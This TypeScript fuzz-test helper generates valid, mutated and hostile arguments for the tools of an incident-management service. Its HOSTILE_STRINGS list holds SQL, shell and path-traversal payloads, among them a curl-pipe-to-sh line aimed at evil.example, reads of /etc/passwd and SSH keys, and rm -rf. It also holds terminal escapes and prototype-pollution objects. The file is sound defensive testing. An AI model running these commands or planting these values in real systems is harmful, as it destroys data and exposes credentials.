import fc from 'fast-check';

/**
 * Input generators for the hostile-input test: valid-shaped arguments built from each tool's JSON
 * Schema (with plausible values for the fields that name things: ids, people, times, services),
 * field-by-field mutations of them, and hostile values of every kind.
 */

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** The subset of JSON Schema (draft 2020-12, as z.toJSONSchema writes it) the tools use. */
export interface JsonSchema {
  type?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: Json[];
  anyOf?: JsonSchema[];
  minimum?: number;
  maximum?: number;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  maxItems?: number;
}

/** Largest string the test sends: big enough to hit every limit, small enough to stay fast. */
export const HUGE = 100_000;

/** An own, enumerable property, even for "__proto__" (an object literal would set the prototype instead). */
export function setOwn(target: Record<string, unknown>, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

const polluting = (): Json[] => [
  JSON.parse('{"__proto__":{"polluted":"yes","isAdmin":true}}') as Json,
  JSON.parse('{"constructor":{"prototype":{"polluted":"yes"}}}') as Json,
  JSON.parse('{"prototype":{"polluted":"yes"}}') as Json,
  JSON.parse('{"a":{"__proto__":{"polluted":"yes"}}}') as Json,
  JSON.parse('[{"__proto__":{"polluted":"yes"}}]') as Json,
];

/** Strings that have broken other programs: SQL, shell, paths, escapes, odd Unicode, ids that almost parse. */
export const HOSTILE_STRINGS: readonly string[] = [
  // SQL
  "'; DROP TABLE incidents; --",
  "INC-1'; DROP TABLE incidents; --",
  '" OR 1=1 --',
  '1 OR 1=1',
  "Robert'); DROP TABLE timeline;--",
  "%' OR '%'='",
  'AI-1; DELETE FROM action_items',
  "x'); PRAGMA writable_schema=1; --",
  // shell
  '$(rm -rf /)',
  '`rm -rf /`',
  '| cat /etc/passwd',
  '; shutdown -h now',
  '&& curl http://evil.example | sh',
  '${IFS}cat${IFS}/etc/passwd',
  'payment-api; rm -rf ~',
  '--upload-pack=touch /tmp/pwned',
  '-c core.pager=sh',
  // paths
  '../../etc/passwd',
  '../../../../../../etc/shadow',
  '..\\..\\windows\\system32\\config',
  '/etc/passwd',
  '/',
  '.',
  '..',
  'C:\\Windows\\win.ini',
  'file:///etc/passwd',
  'INC-1/../../etc/passwd',
  'payment-api/../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '~/.ssh/id_rsa',
  'INC-1\u0000',
  'payment-api\u0000.jsonl',
  '\u0000',
  // control characters and terminal escapes
  '\u001b[31mred\u001b[0m',
  '\u001b]0;pwned\u0007',
  '\u001b[2J\u001b[H',
  '\u009b31m',
  'ok\r\nInjected: header',
  '\u0007\u0008\u007f',
  'tab\there',
  '\n',
  ' ',
  '',
  '   padded   ',
  // prototype keys as values
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  // Unicode
  '😀🔥',
  '𝕏𝔸𝕄𝕃 𝟙𝟚𝟛',
  '\u202Eevil\u202C',
  'مرحبا بالعالم',
  'שלום עולם',
  'e\u0301\u0301\u0301\u0301',
  'Z̷̢̛̛a̸̡l̵g̶o̷',
  '\uD800',
  '\uDC00x',
  'a\uDBFFb',
  '\uFEFFbom',
  'zero\u200Bwidth',
  '\uFFFF\uFFFE',
  'line\u2028sep\u2029',
  'İstanbul ß ǅ',
  // ids and numbers that almost parse
  'INC-1',
  'INC-',
  'INC--1',
  'INC-1.5',
  'INC-0x10',
  'INC-1e3',
  'H-1',
  'AI-1',
  'inc-0',
  'INC-99999999999999999999',
  '0',
  '-1',
  '1e309',
  'NaN',
  'Infinity',
  'null',
  'true',
  '{}',
  '[]',
  '{"a":1}',
  // templates and markup
  '%s%s%s%n',
  '{{7*7}}',
  '{{#each}}',
  '<script>alert(1)</script>',
  ']]><!--',
];

const CONTROL_UNITS = [
  '\u0000',
  '\u0001',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u009b',
  '\u0007',
  '[',
  'a',
  ' ',
  '\n',
  '\r',
  '\t',
];

/** Big strings of one repeated piece, up to HUGE characters. */
const hugeString = fc
  .record({
    piece: fc.constantFrom('A', 'é', '😀', "'", '\u0000', '../', 'x '),
    size: fc.integer({ min: 1_000, max: HUGE }),
  })
  .map(({ piece, size }) => piece.repeat(Math.ceil(size / piece.length)).slice(0, size));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...HOSTILE_STRINGS), weight: 6 },
  {
    arbitrary: fc
      .tuple(
        fc.constantFrom('INC-1', 'H-1', 'AI-1', 'payment-api', 'Priya', '7d', '2026-11-26T13:00:00Z'),
        fc.constantFrom(...HOSTILE_STRINGS),
      )
      .map(([a, b]) => a + b),
    weight: 3,
  },
  { arbitrary: fc.string({ unit: fc.constantFrom(...CONTROL_UNITS), minLength: 1, maxLength: 30 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 40 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }), weight: 1 },
  { arbitrary: hugeString, weight: 1 },
);

/** Keys for extra fields: prototype keys, huge keys, keys with escapes. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom('__proto__', 'constructor', 'prototype', 'polluted', 'isAdmin', 'toString'), weight: 4 },
  {
    arbitrary: fc.constantFrom(
      '',
      ' ',
      'incidentid',
      'Title',
      'title ',
      'extra',
      '$where',
      'id; DROP TABLE incidents',
      '../../etc/passwd',
      '\u001b[31mkey',
      'k\u0000ey',
      '😀',
      '\uD800',
    ),
    weight: 3,
  },
  { arbitrary: fc.integer({ min: 1_000, max: 20_000 }).map((n) => 'k'.repeat(n)), weight: 1 },
  { arbitrary: fc.string({ maxLength: 12 }), weight: 2 },
);

const deepNest = fc.integer({ min: 10, max: 60 }).map((depth) => {
  let v: Json = 'bottom';
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
});

/** Any value of any type: what a confused or malicious client might put in a field. */
export const hostileValue: fc.Arbitrary<Json> = fc.oneof(
  { arbitrary: hostileString, weight: 8 },
  {
    arbitrary: fc.constantFrom<Json>(
      null,
      true,
      false,
      0,
      -1,
      1,
      0.5,
      -0.000001,
      2 ** 31,
      2 ** 53,
      2 ** 53 + 2,
      1e308,
      -1e308,
      Number.MIN_VALUE,
      100.0001,
      525_601,
      10_081,
    ),
    weight: 4,
  },
  { arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }).map((n) => n as Json), weight: 1 },
  { arbitrary: fc.constantFrom<Json>([], {}, [null], ['INC-1'], [''], { '': '' }, { title: 'x' }), weight: 2 },
  { arbitrary: fc.constantFrom(...polluting()), weight: 3 },
  { arbitrary: fc.array(hostileString, { maxLength: 5 }) as fc.Arbitrary<Json>, weight: 1 },
  {
    arbitrary: fc.integer({ min: 100, max: 3_000 }).map((n) => Array.from({ length: n }, (_, i) => `x${i}`) as Json),
    weight: 1,
  },
  { arbitrary: deepNest, weight: 1 },
);

const ISO_TIMES = [
  '2026-11-26T13:00:00Z',
  '2026-11-26T13:55:00.000Z',
  '2026-11-26T13:59:59+00:00',
  '2026-11-26T14:30:00+01:00',
  '2026-11-26',
  '2026-11-25T23:00:00-05:00',
  '2026-11-24T09:00:00Z',
  '2026-12-01T00:00:00Z',
  '2030-01-01T00:00:00Z',
  '2025-01-01T00:00:00Z',
  '1970-01-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '2026-02-30',
  '2026-11-26T25:00:00Z',
  'yesterday',
];
const PEOPLE = ['Priya', 'Sam', '@dana', 'Alex', 'José Núñez', 'Chen Wei', 'TBD', 'team', 'Dave'];
const MEMBERS = ['Ana', 'Ben', 'Chen', 'Dee', 'Eve', 'Fay'];
const PROSE = [
  'Checkout failing: payment API 500s',
  "Our payment API is returning 500 errors and customers can't check out",
  'Search is slow for some users in EU',
  'error rate back to baseline at 14:32',
  'rolled back v2.14.0',
  'Dave pushed a bad config and broke login',
  'It was human error; we should have tested',
  'connection pool exhausted on postgres-main',
  'Add a canary stage with automatic rollback',
  'Alert on checkout error rate above 2% for 5 minutes',
  'no change, still investigating',
  'unknown',
];

const person = fc.constantFrom(...PEOPLE);
const prose = fc.oneof(
  { arbitrary: fc.constantFrom(...PROSE), weight: 4 },
  { arbitrary: fc.string({ minLength: 1, maxLength: 60 }), weight: 1 },
  { arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }), weight: 1 },
);

/**
 * How many incidents, hypotheses and action items the store holds now (the test keeps it current). Ids
 * are drawn when an input is generated, leaning on the newest, which are the most likely still open.
 */
export const existing = { INC: 1, H: 1, AI: 1 };

const ids = (prefix: keyof typeof existing): fc.Arbitrary<string> =>
  fc.oneof(
    { arbitrary: fc.nat(4).map((back) => `${prefix}-${Math.max(1, existing[prefix] - back)}`), weight: 5 },
    { arbitrary: fc.nat().map((n) => `${prefix}-${1 + (n % existing[prefix])}`), weight: 2 },
    {
      arbitrary: fc.constantFrom(`${prefix.toLowerCase()}-1`, '2', `${prefix}-0`, `${prefix}-999999999`, `${prefix}1`),
      weight: 1,
    },
  );

/**
 * Plausible values for fields whose meaning the schema does not carry. Keys are paths in the input,
 * "[]" standing for any array element; a tool name first makes a hint specific to that tool.
 */
const HINTS: Record<string, fc.Arbitrary<Json>> = {
  incidentId: ids('INC'),
  'resolve_hypothesis:id': ids('H'),
  'update_action_item:id': ids('AI'),
  'services[]': fc.constantFrom('payment-api', 'search', 'Checkout', 'payments', 'unknown-svc', 'postgres-main'),
  service: fc.constantFrom('payment-api', 'payment-api', 'Checkout', 'search', 'PAYMENT-API', 'unknown-svc'),
  'people[].owns[]': fc.constantFrom('payment-api', 'search'),
  'people[].canServe[]': fc.constantFrom(
    'incident_commander',
    'technical_lead',
    'scribe',
    'communications_lead',
    'janitor',
  ),
  'other[].role': fc.constantFrom('incident_commander', 'scribe', 'deputy', 'technical_lead'),
  alert: fc.constantFrom('CheckoutErrorRateHigh', 'PaymentGatewayTimeouts', 'NoSuchAlert'),
  at: fc.constantFrom(...ISO_TIMES),
  startedAt: fc.constantFrom(...ISO_TIMES),
  detectedAt: fc.constantFrom(...ISO_TIMES),
  resolvedAt: fc.constantFrom(...ISO_TIMES),
  mitigatedAt: fc.constantFrom(...ISO_TIMES, '2026-11-26 13:30', '5', 'Nov 26 2026'),
  asOf: fc.constantFrom(...ISO_TIMES),
  'series[].at': fc.constantFrom(
    '2026-11-26T13:55:00Z',
    '2026-11-26T13:00:00Z',
    '2026-11-26T08:00:00Z',
    '2026-11-23T14:00:00Z',
  ),
  due: fc.constantFrom(
    '7d',
    '14d',
    '1h',
    '2w',
    '2026-12-10',
    '2026-12-10T17:00:00Z',
    '2020-01-01',
    '400d',
    '99999999999w',
    '2000000w',
    '1.5d',
    'next week',
    '0d',
  ),
  'actionItems[].due': fc.constantFrom('7d', '14d', '2026-12-10', '2020-01-01', '400d', '99999999999w'),
  since: fc.constantFrom('2h', '90m', '1d', '2026-11-26T12:00:00Z', '10m', '99999999999w', '6000000w', '0m'),
  until: fc.constantFrom('5m', '2026-11-26T14:00:00Z', '2030-01-01T00:00:00Z', '1h'),
  members: fc.oneof(
    { arbitrary: fc.shuffledSubarray(MEMBERS, { minLength: 2 }) as fc.Arbitrary<Json>, weight: 8 },
    { arbitrary: fc.constant<Json>(['Ana', 'ana']), weight: 1 },
    { arbitrary: fc.constant<Json>(['__proto__', 'constructor', 'toString']), weight: 1 },
  ),
  timeboxMinutes: fc.constantFrom(5, 10, 15, 15, 16, 240),
  windowDays: fc.constantFrom(28, 30, 7, 90, 1),
  start: fc.constantFrom('2026-11-30', '2026-12-07', '2026-12-01', '2027-03-29', '2026-02-30'),
  handoffTime: fc.constantFrom('10:00', '09:30', '23:59', '00:00', '24:00', '9:00'),
  timeZone: fc.constantFrom(
    'UTC',
    'Europe/London',
    'America/New_York',
    'Asia/Kolkata',
    'Australia/Lord_Howe',
    'Mars/Olympus',
    'utc',
  ),
  'unavailable[].person': fc.constantFrom(...MEMBERS, 'Zed'),
  'unavailable[].from': fc.constantFrom('2026-12-01', '2026-12-14', '2026-12-21', '2027-01-04'),
  'unavailable[].to': fc.constantFrom('2026-12-03', '2026-12-20', '2027-01-03', '2026-11-01'),
  'swaps[].period': fc.oneof(fc.integer({ min: 1, max: 6 }), fc.constantFrom('2026-12-07', '2026-12-08')),
  'swaps[].from': fc.constantFrom(...MEMBERS),
  'swaps[].to': fc.constantFrom(...MEMBERS, 'Zed'),
};

/**
 * Whole inputs that pass validation, for tools whose fields depend on each other (one of two, both or
 * neither): the generic generator rarely gets past their checks alone. Mixed in at the top level.
 */
const PRESETS: Record<string, fc.Arbitrary<Json>> = {
  check_error_budget: fc.oneof(
    fc.record({
      target: fc.constantFrom(0.999, 0.9995, 0.99),
      windowDays: fc.constantFrom(28, 30),
      good: fc.constantFrom(9_990_000, 9_999_999, 0),
      total: fc.constantFrom(10_000_000),
      errorRatios: fc.record({
        '5m': fc.double({ min: 0, max: 1, noNaN: true }),
        '1h': fc.double({ min: 0, max: 1, noNaN: true }),
        '6h': fc.constantFrom(0.001, 0.5),
      }),
      incidentBadEvents: fc.constantFrom(100, 50_000),
    }),
    fc.record({
      targetPercent: fc.constantFrom(99.9, 99.5),
      windowDays: fc.constantFrom(30, 7),
      series: fc.array(
        fc.record({
          at: fc.constantFrom('2026-11-26T13:55:00Z', '2026-11-26T13:00:00Z', '2026-11-26T08:00:00Z'),
          good: fc.constantFrom(990, 1000),
          total: fc.constant(1000),
        }),
        { minLength: 1, maxLength: 6 },
      ),
      asOf: fc.constantFrom('2026-11-26T14:00:00Z'),
    }),
  ),
  plan_oncall_rotation: fc.record({
    members: fc.shuffledSubarray(MEMBERS, { minLength: 2 }),
    start: fc.constantFrom('2026-11-30', '2026-12-07'),
    weeks: fc.integer({ min: 1, max: 30 }),
    timeZone: fc.constantFrom('UTC', 'Europe/London', 'America/New_York'),
    unavailable: fc.constantFrom<Json>([], [{ person: 'Ana', from: '2026-12-14', to: '2026-12-20' }]),
  }) as fc.Arbitrary<Json>,
};

const PERSON_FIELDS = new Set([
  'owner',
  'reporter',
  'by',
  'author',
  'createdBy',
  'name',
  'person',
  'incidentCommander',
  'communicationsLead',
  'technicalLead',
  'scribe',
]);

function hintFor(tool: string, path: string): fc.Arbitrary<Json> | undefined {
  const key = path.replace(/^.*\./, '');
  return HINTS[`${tool}:${path}`] ?? HINTS[path] ?? (PERSON_FIELDS.has(key) ? person : undefined);
}

const clampString = (arb: fc.Arbitrary<string>, min = 0, max = Infinity): fc.Arbitrary<string> =>
  arb.map((s) => (s.length > max ? s.slice(0, max) : s.length < min ? s.padEnd(min, 'x') : s));

/** Numbers inside the schema's range, its boundaries included. */
function numberIn(schema: JsonSchema, integer: boolean): fc.Arbitrary<Json> {
  const min = schema.minimum ?? (integer ? -1000 : -1e6);
  const max = schema.maximum ?? (integer ? 1_000_000 : 1e12);
  const soft = Math.min(max, integer ? min + 1000 : Math.max(min + 1, 1e7));
  const inner = integer
    ? fc.integer({ min: Math.ceil(min), max: Math.floor(soft) })
    : fc.double({ min, max: soft, noNaN: true, noDefaultInfinity: true });
  return fc.oneof({ arbitrary: inner, weight: 5 }, { arbitrary: fc.constantFrom(min, max), weight: 1 });
}

/** A value that fits the schema's shape (names, times and ids plausible, not always valid). */
export function fromSchema(tool: string, schema: JsonSchema, path = '', presets = true): fc.Arbitrary<Json> {
  const hint = path ? hintFor(tool, path) : undefined;
  if (hint) return hint;
  const preset = path || !presets ? undefined : PRESETS[tool];
  if (preset) return fc.oneof(fromSchema(tool, schema, '', false), preset);
  if (schema.enum) return fc.constantFrom(...schema.enum);
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map((s) => fromSchema(tool, s, path)));
  switch (schema.type) {
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return numberIn(schema, true);
    case 'number':
      return numberIn(schema, false);
    case 'string': {
      const max = schema.maxLength ?? 200;
      const min = schema.minLength ?? 0;
      // Sometimes exactly at the limit: the longest valid value must still work end to end.
      return fc.oneof(
        { arbitrary: clampString(prose, min, max), weight: 9 },
        { arbitrary: fc.constant('x'.repeat(Math.min(max, 60_000))), weight: 1 },
      );
    }
    case 'array': {
      const minLength = schema.minItems ?? 0;
      const maxLength = Math.min(schema.maxItems ?? 5, minLength + 4);
      return fc.array(fromSchema(tool, schema.items ?? {}, `${path}[]`), { minLength, maxLength });
    }
    case 'object': {
      const props = schema.properties ?? {};
      const required = new Set(schema.required ?? []);
      const shape: Record<string, fc.Arbitrary<Json | undefined>> = {};
      for (const [key, sub] of Object.entries(props)) {
        const value = fromSchema(tool, sub, path ? `${path}.${key}` : key);
        // Optional fields present half the time, so fields that exclude each other also come alone.
        shape[key] = required.has(key) ? value : fc.option(value, { nil: undefined, freq: 2 });
      }
      return fc
        .record(shape)
        .map((o) => Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined)) as Json);
    }
    default:
      return hostileValue;
  }
}

export type MutationKind = 'drop' | 'extra' | 'replace' | 'proto';

export interface Mutation {
  kind: MutationKind;
  /** Which node of the value: an index into its nodes, taken modulo their number. */
  pick: number;
  key: string;
  value: Json;
}

export const mutation: fc.Arbitrary<Mutation> = fc.record({
  kind: fc.constantFrom<MutationKind>('drop', 'extra', 'replace', 'replace', 'replace', 'proto'),
  pick: fc.nat(),
  key: hostileKey,
  value: hostileValue,
});

type Container = Record<string, unknown> | unknown[];

/** A deep copy through JSON, as the wire makes it: generated constants are shared and must never be mutated. */
const copy = (value: Json): Json => JSON.parse(JSON.stringify(value)) as Json;

function nodes(
  value: unknown,
  out: { parent: Container | null; key: string | number | null; value: unknown }[] = [],
  parent: Container | null = null,
  key: string | number | null = null,
): typeof out {
  out.push({ parent, key, value });
  if (Array.isArray(value)) for (const [i, v] of value.entries()) nodes(v, out, value, i);
  else if (value && typeof value === 'object')
    for (const k of Object.keys(value))
      nodes((value as Record<string, unknown>)[k], out, value as Record<string, unknown>, k);
  return out;
}

/** Applies mutations to a deep copy: drop a field, add a hostile one, replace a value, plant a prototype key. */
export function applyMutations(input: Json, mutations: readonly Mutation[]): Json {
  const root = copy(input);
  for (const m of mutations) {
    const all = nodes(root);
    const objects = all.filter((n) => n.value && typeof n.value === 'object' && !Array.isArray(n.value));
    const children = all.filter((n) => n.parent !== null);
    if (m.kind === 'drop' && children.length) {
      const n = children[m.pick % children.length]!;
      if (Array.isArray(n.parent)) n.parent.splice(n.key as number, 1);
      else delete (n.parent as Record<string, unknown>)[n.key as string];
    } else if (m.kind === 'replace' && children.length) {
      const n = children[m.pick % children.length]!;
      if (Array.isArray(n.parent)) n.parent[n.key as number] = copy(m.value);
      else setOwn(n.parent as Record<string, unknown>, n.key as string, copy(m.value));
    } else if (objects.length) {
      const n = objects[m.pick % objects.length]!;
      const target = n.value as Record<string, unknown>;
      if (m.kind === 'proto')
        setOwn(target, ['__proto__', 'constructor', 'prototype'][m.pick % 3]!, polluting()[m.pick % 5]);
      else setOwn(target, m.key, copy(m.value));
    }
  }
  return root;
}

/** A top-level object of hostile keys and values, no schema in sight. */
export const hostileObject: fc.Arbitrary<Json> = fc
  .array(
    fc.tuple(
      fc.oneof(hostileKey, fc.constantFrom('incidentId', 'title', 'id', 'service', 'text', 'members', 'windowDays')),
      hostileValue,
    ),
    { maxLength: 6 },
  )
  .map((entries) => {
    const o: Record<string, unknown> = {};
    for (const [k, v] of entries) setOwn(o, k, copy(v));
    return o as Json;
  });

/** Arguments for one call of a tool: valid-shaped, mutated field by field, or hostile throughout. */
export function toolArguments(
  tool: string,
  schema: JsonSchema,
): fc.Arbitrary<{ kind: 'valid' | 'mutated' | 'hostile'; args: Json }> {
  const valid = fromSchema(tool, schema);
  return fc.oneof(
    { arbitrary: valid.map((args) => ({ kind: 'valid' as const, args })), weight: 4 },
    {
      arbitrary: fc
        .tuple(valid, fc.array(mutation, { minLength: 1, maxLength: 3 }))
        .map(([args, ms]) => ({ kind: 'mutated' as const, args: applyMutations(args, ms) })),
      weight: 5,
    },
    { arbitrary: hostileObject.map((args) => ({ kind: 'hostile' as const, args })), weight: 1 },
  );
}
